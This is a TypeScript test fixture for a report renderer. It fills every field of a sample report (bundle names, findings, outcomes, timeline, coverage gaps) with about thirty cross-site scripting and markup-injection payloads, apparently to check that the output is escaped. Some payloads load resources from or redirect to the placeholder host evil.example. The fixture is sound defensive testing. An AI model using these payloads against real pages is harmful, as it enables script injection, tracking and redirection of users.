// A report that says the same texts in every place where a bundle or a rule can say something.

import type { Report } from '../../src/report/report.ts';
import { sayingTrace } from '../report/path/sample-traces.ts';
import { healthyReport } from '../report/sample-report.ts';

const run = 'window.hit=1;alert(1)';
/** Each runs once it is read as markup, and loads something where it can. */
export const executingTexts: readonly string[] = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</title><svg onload=${run}>`,
  `</pre><img src=https://evil.example/x onerror=${run}>`,
  `<img src=x onerror=${run}>`,
  `" onmouseover="${run}" x="`,
  `' autofocus onfocus='${run}`,
  `\` onclick=${run} \``,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<details open ontoggle=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<object data="javascript:${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `[x](javascript:${run})`,
  `![x](https://evil.example/track.png)`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example/><button autofocus>`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<video><source onerror=${run}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `{{{<script>${run}</script>}}}`,
  `\${${run}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\u2028<script>${run}</script>`,
  `#severity=critical&q=<img src=x onerror=${run}>`,
];

export function sayingEverywhere(texts: readonly string[]): Report {
  const [outcome] = healthyReport.outcomes;
  if (!outcome) throw new Error('the sample has no outcome');
  const one = texts.join(' ');
  const placeOf = (text: string) => ({ path: text, first: 1, last: 1 });
  return {
    ...healthyReport,
    bundle: {
      name: one,
      kinds: [one],
      cluster: { id: one, version: one, platform: one },
      nodes: [...texts],
      inputs: texts.map((text) => ({ path: text, sha256: text, bytes: 1 })),
    },
    findings: texts.map((text, at) => ({
      id: String(at).padStart(12, '0'),
      rule: `rule-${at}`,
      pack: text,
      catalog: [text],
      status: text,
      severity: 'error',
      title: text,
      subject: text,
      message: text,
      objects: [{ kind: text, namespace: text, name: text, node: text }],
      evidence: [{ ...placeOf(text), excerpt: text, binding: text }],
      meaning: text,
      impact: text,
      diagnosis: text,
      remediation: text,
      falsePositives: [text],
      references: [text],
    })),
    outcomes: [
      { ...outcome, verdict: 'error', rule: one, title: one, pack: one, errors: [...texts] },
      { ...outcome, verdict: 'pass', rule: one, title: one, pack: one },
      ...texts.map((text) => ({
        ...outcome,
        verdict: 'no-data' as const,
        rule: text,
        title: text,
        missing: [text],
        hints: [{ missing: text, files: [text] }],
      })),
    ],
    paths: [{ title: one, trace: sayingTrace(one), findings: [] }],
    timeline: texts.map((text) => ({ time: text, clock: text, subject: text, text, evidence: placeOf(text) })),
    coverage: {
      ...healthyReport.coverage,
      gaps: texts.map((text) => ({ code: 'YAML_SYNTAX', path: text, detail: text })),
      infos: texts.map((text) => ({ code: 'FILE_EMPTY', path: text, detail: text })),
    },
  };
}
